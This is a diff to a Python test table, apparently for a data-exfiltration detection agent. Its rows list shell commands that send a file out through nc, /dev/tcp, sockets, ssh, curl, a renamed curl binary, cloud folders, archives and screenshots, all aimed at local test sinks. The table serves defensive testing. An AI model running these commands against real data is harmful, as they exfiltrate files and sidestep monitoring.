@@ -8,7 +8,7 @@ sshd; {http} {https} {ftp} {rsync} {sshport} {smtp} ports of its servers, {port}
 import dataclasses
 
 # What other parts of the agent must be there for a row. Whoever merges one adds it: its rows are then held to what they promise.
-MERGED: set[str] = set()
+MERGED: set[str] = {"network", "lineage"}
 
 
 @dataclasses.dataclass(frozen=True)
@@ -23,6 +23,7 @@ class Row:
     needs: str = ""                   # "network" (the kernel's guard of connections), "lineage" (pipes and derived files)
     block: str = "yes"                # "late": it has happened when we see it; the README says why
     picture: bool = False             # what leaves is a picture: that there is one is all that can be asked of it
+    knows_program: bool = True        # else the user at least
     fails: bool = True                # the tool says so when it is stopped
     same_event: bool = True           # the event is about this run's file; else about any of the user's (pipes have no name)
 
@@ -57,8 +58,9 @@ ROWS = [
     medium("python3 -c \"import mmap; d = open('{s}', 'rb').read(); f = open('{m}/{t}.csv', 'wb+'); f.truncate(len(d)); "
            "mmap.mmap(f.fileno(), len(d))[:] = d\"", "python3"),
     medium("exec 3> {m}/{t}.csv; cat {s} >&3", "cat"),
-    medium("cp {s} {out}/{t}.png && cp {out}/{t}.png {m}/{t}.png", "cp"),
-    medium("base64 {s} > {out}/{t}.txt && cp {out}/{t}.txt {m}/{t}.txt", "cp", unpack="base64 -d"),
+    # Nobody is as fast as a shell: a file that is opened within some microseconds of its creation may be faster than its mark.
+    medium("cp {s} {out}/{t}.png && sleep 0.3 && cp {out}/{t}.png {m}/{t}.png", "cp"),
+    medium("base64 {s} > {out}/{t}.txt && sleep 0.3 && cp {out}/{t}.txt {m}/{t}.txt", "cp", unpack="base64 -d"),
     medium("rsync {s} {m}/{t}.csv", "rsync", needs="lineage"),
     medium("cat {s} | tee {m}/{t}.csv > /dev/null", "tee", needs="lineage", same_event=False),
     medium("gpg --batch --quiet --passphrase x -c -o {out}/{t}.gpg {s} && cp {out}/{t}.gpg {m}/{t}.gpg", "cp",
@@ -85,17 +87,19 @@ ROWS = [
     network("nc -N 127.0.0.1 {port} < {s}", "nc.openbsd", "{port}", needs="network"),
     network("ncat --send-only 127.0.0.1 {port} < {s}", "ncat", "{port}", needs="network"),
     network("{ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.csv' < {s}", "ssh", "{sshport}", needs="network"),
-    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}", needs="network"),
+    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}", needs="network",
+            fails=False),  # it was connected before: what it sends is dropped
     network("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port})).sendall(open('{s}', 'rb').read())\"",
-            "python3", "{port}", needs="network"),
+            "python3", "{port}", needs="network", fails=False),
     network("perl -MIO::Socket::INET -e 'open F, shift; print {{IO::Socket::INET->new(shift)}} <F>' {s} 127.0.0.1:{port}", "perl",
             "{port}", needs="network"),
     network("cp /usr/bin/curl {out}/{t}; {out}/{t} -sf -T {s} http://127.0.0.1:{http}/{t}", "{t}", "{http}", needs="network"),
-    network("cat {s} | nc -N 127.0.0.1 {port}", "nc.openbsd", "{port}", needs="network lineage", same_event=False),
-    network("tar -cz -C {d} export.csv | base64 | curl -sf --data-binary @- http://127.0.0.1:{http}/{t}", "curl", "{http}",
-            unpack="base64 -d | gzip -dc", needs="network lineage", same_event=False),
-    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "ssh", "{sshport}",
-            needs="network lineage", same_event=False),
+    # Whoever opens the file is told, by the way out of the one who reads from him.
+    network("cat {s} | nc -N 127.0.0.1 {port}", "cat", "{port}", needs="network lineage"),
+    network("tar -cz -C {d} export.csv | base64 | curl -sf --data-binary @- http://127.0.0.1:{http}/{t}", "tar", "{http}",
+            unpack="base64 -d | gzip -dc", needs="network lineage"),
+    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "tar", "{sshport}",
+            needs="network lineage"),
     network("gzip -c {s} > {out}/{t}.bin && curl -sf -T {out}/{t}.bin http://127.0.0.1:{http}/{t}", "curl", "{http}",
             unpack="gzip -dc"),
     network("zip -q -P x {out}/{t}.zip {s} && curl -sf -T {out}/{t}.zip http://127.0.0.1:{http}/{t}", "curl", "{http}",
@@ -117,7 +121,8 @@ ROWS = [
     # Clouds.
     Row("cp {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
     Row("cp {s} {home}/Dropbox/team/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
-    Row("mv {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "mv", {"kind": "folder"}, block="late"),
+    Row("mv {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "mv", {"kind": "folder"}, block="late",
+        knows_program=False),  # mv opens nothing and is gone: its user is known by the file's owner
     Row("rclone -q --config {home}/rclone.conf copyto {s} drive:{t}.csv", "cloud_sync", "rclone", {"name": "drive"}),
     # Archives.
     Row("zip -q {out}/{t}.zip {s}", "archive", "zip", at="{t}.zip", unpack="funzip"),
@@ -129,5 +134,6 @@ ROWS = [
         unpack="gpg --batch --quiet --passphrase x -d"),
     Row("age -R {age}.pub -o {out}/{t}.age {s}", "archive", "age", at="{t}.age", unpack="age -d -i {age}"),
     # The screen: somebody has the file open, and a picture is taken.
-    Row("tail -f {s} > /dev/null & sleep 0.5; DISPLAY={display} scrot {out}/{t}.png", "screenshot", "bash", at="{t}.png", picture=True),
+    Row("tail -f {s} > /dev/null 2>&1 & sleep 0.5; DISPLAY={display} scrot {out}/{t}.png; ended=$?; kill %1; exit $ended", "screenshot", "bash", at="{t}.png", picture=True,
+        same_event=False),  # it is told with all that this user's carriers have read,
 ]
